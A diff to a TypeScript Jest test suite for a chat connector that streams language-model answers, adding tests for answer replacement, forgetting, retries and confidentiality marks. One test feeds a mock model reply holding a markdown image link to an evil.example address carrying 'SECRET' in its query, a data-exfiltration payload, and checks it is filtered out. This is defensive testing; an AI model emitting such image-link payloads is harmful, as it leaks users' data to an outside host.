@@ -1,6 +1,6 @@
 import { people } from "../../../../playground/src/teams/connector";
 import type { ReceivedRequest, Reply } from "../../../support/model-server";
-import { answerReply, bodyReply, chatChunk } from "../../../support/model-server-replies";
+import { answerReply, bodyReply, chatChunk, finishChunk } from "../../../support/model-server-replies";
 import { startBench, type ConversationBench } from "./conversation-bench";
 
 jest.setTimeout(60_000);
@@ -80,10 +80,12 @@ describe("questions", () => {
     await ask(personal, "新しい話題");
   });
 
-  test("in a group: one plain message, with its own memory", async () => {
-    const { said } = await ask(group, "公文書とは何ですか。");
+  test("in a group: one plain message, which the answer replaces, with its own memory", async () => {
+    const { said } = await ask(group, "公文書とは何ですか。", (texts) => texts.some((text) => text.includes("別表")));
     expect(said).toHaveLength(1);
-    expect(bench.connector.sent({ conversation: group }).every(({ request }) => request.type === "message")).toBe(true);
+    const sent = bench.connector.sent({ conversation: group });
+    expect(sent.map(({ method }) => method)).toEqual(["POST", "PUT"]);
+    expect(sent.every(({ request }) => request.type === "message")).toBe(true);
     expect(lastMessages().map(({ role }) => role)).toEqual(["system", "user"]);
   });
 
@@ -120,6 +122,55 @@ describe("questions", () => {
     await closed!;
     const said = await bench.until(personal, (all) => all.at(-1)?.activity.text?.includes("中止しました") === true);
     expect(said.at(-1)!.activity.text).not.toContain("長い答えの始まり");
+  });
+
+  test("what was stopped is not remembered, and what is forgotten during an answer is not either", async () => {
+    let go: () => void = () => undefined;
+    reply = () => async (response, request) => {
+      await new Promise<void>((resolve) => (go = resolve));
+      await answerReply("忘れるべき答えです。")(response, request);
+    };
+    const count = bench.connector.botActivities(personal).length;
+    await bench.connector.say(personal, takasaki, "最初の質問です。");
+    await bench.until(personal, (said) => said.length > count);
+    while (bench.upstream.requests.at(-1)?.text.includes("最初の質問") !== true)
+      await new Promise((next) => setTimeout(next, 20));
+    await bench.connector.say(personal, takasaki, "新しい話題");
+    go();
+    await bench.until(personal, (said) =>
+      said.some(({ activity }) => activity.text?.includes("忘れるべき答え") === true),
+    );
+    reply = () => answerReply("はい。");
+    await ask(personal, "次の質問です。", (texts) => texts.some((text) => text.includes("はい。")));
+    expect(JSON.stringify(lastMessages())).not.toMatch(/最初の質問|忘れるべき/);
+    expect(JSON.stringify(lastMessages())).not.toContain("長い答え");
+    await ask(personal, "新しい話題");
+  });
+
+  test("many questions of one person, the first of which the model refuses for a while, keep nobody waiting", async () => {
+    let refused = 0;
+    reply = (asked) => (response, request) => {
+      if (asked.startsWith("質問1") && ++refused === 1)
+        return void response.writeHead(503, { "Retry-After": "1" }).end();
+      return answerReply(`${asked}への答え`)(response, request);
+    };
+    const count = bench.connector.botActivities(personal).length;
+    for (let number = 1; number <= 5; number += 1) await bench.connector.say(personal, takasaki, `質問${number}です`);
+    const other = "a:1mihon";
+    await bench.connector.say(other, mihon, "見本の質問です");
+    await bench.until(other, (said) =>
+      said.some(({ activity }) => activity.text?.includes("見本の質問ですへの答え") === true),
+    );
+    await bench.until(personal, (said) => {
+      const texts = said.slice(count).map(({ activity, streaming }) => (streaming === undefined ? activity.text : ""));
+      return [1, 2, 3, 4, 5].every((number) => texts.some((text) => text?.includes(`質問${number}ですへの答え`)));
+    });
+    // The last one knew of those before, in their order.
+    const users = lastMessages()
+      .filter(({ role }) => role === "user")
+      .map(({ content }) => content);
+    expect(users.slice(-5)).toEqual([1, 2, 3, 4, 5].map((number) => `質問${number}です`));
+    await ask(personal, "新しい話題");
   });
 
   test("an activity that is delivered 50 times is answered once", async () => {
@@ -165,6 +216,45 @@ describe("questions about a file", () => {
     reply = () => answerReply("利用者は約3,000人です。[2]");
     const next = await ask(personal, "利用者は何人ですか。");
     expect(next.said[0]!.activity.text).toContain("利用者は約3,000人です。 [1]");
+    await ask(personal, "新しい話題");
+  });
+
+  test("nothing of the answer shows before it is checked, and no address of the model at all", async () => {
+    reply = () =>
+      bodyReply([
+        chatChunk("試行は令和8年4月に始まります。[1]![x](https://evil.example/p?q="),
+        300,
+        chatChunk("SECRET)費用は9億円です。[3] https://evil.example/l"),
+        finishChunk(),
+        "data: [DONE]\n\n",
+      ]);
+    const from = bench.connector.sent({ conversation: personal }).length;
+    await ask(personal, "いつ始まりますか。", undefined, { files: [material] });
+    const wire = JSON.stringify(
+      bench.connector
+        .sent({ conversation: personal })
+        .slice(from)
+        .map(({ request }) => request),
+    );
+    expect(wire).toContain("試行は令和8年4月に始まります。");
+    expect(wire).not.toMatch(/9億円です。 \[|\]\(https:\/\/evil|!\[x\]|[^`]https:\/\/evil/);
+    await ask(personal, "新しい話題");
+  });
+
+  test("its mark goes on with what is remembered of it", async () => {
+    const marked = {
+      ...material,
+      name: "計画2.txt",
+      bytes: new TextEncoder().encode("機密性２情報\n筆頭は甲野である。"),
+    };
+    reply = () => answerReply("筆頭は甲野です。[2]");
+    const { said } = await ask(personal, "筆頭はだれですか。", undefined, { files: [marked] });
+    expect(said[0]!.activity.text).toMatch(/^\*\*機密性2情報\*\*/);
+    // As when retention has taken the file: the answer is all that is left of it.
+    await bench.relay.relay.database!.query("delete from job_material");
+    reply = () => answerReply("そうです。");
+    const next = await ask(personal, "それは確かですか。");
+    expect(next.said[0]!.activity.text).toMatch(/^\*\*機密性2情報\*\*/);
     await ask(personal, "新しい話題");
   });
 
